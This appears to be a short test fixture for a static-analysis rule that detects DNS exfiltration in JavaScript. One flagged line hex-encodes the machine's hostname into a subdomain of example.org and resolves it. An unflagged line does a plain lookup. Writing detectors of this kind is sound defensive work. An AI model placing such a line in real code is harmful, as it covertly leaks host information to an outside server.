const dns = require('dns');
const os = require('os');
// ruleid: js_dns_exfiltration
dns.lookup(Buffer.from(os.hostname()).toString('hex') + '.example.org', () => {});
// ok: js_dns_exfiltration
dns.lookup('example.org', () => {});
